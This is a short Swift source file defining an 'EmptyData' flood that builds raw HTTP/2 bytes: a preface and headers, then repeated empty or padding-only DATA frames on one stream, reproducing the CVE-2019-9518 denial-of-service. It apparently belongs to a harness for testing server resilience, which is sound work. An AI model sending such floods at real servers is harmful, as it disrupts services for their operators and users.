/// DATA frames that hold nothing, on a call that never ends (CVE-2019-9518).
package struct EmptyData: Flood {
  private let call: FloodCall
  private let isPadded: Bool

  /// Frames on a call; padded ones hold padding only.
  package init(_ call: FloodCall = .health, isPadded: Bool = false) {
    self.call = call
    self.isPadded = isPadded
  }

  package var name: String { isPadded ? "PaddedData" : "EmptyData" }

  package func burst(_ turn: Int) -> [UInt8] {
    let padding: [UInt8] = isPadded ? [3, 0, 0, 0] : []
    return repeating(turn, opening: RawFrame.preface + call.headers(stream: 1)) { _ in
      RawFrame.frame(
        type: RawFrame.data, flags: isPadded ? RawFrame.padded : 0, stream: 1, padding)
    }
  }
}
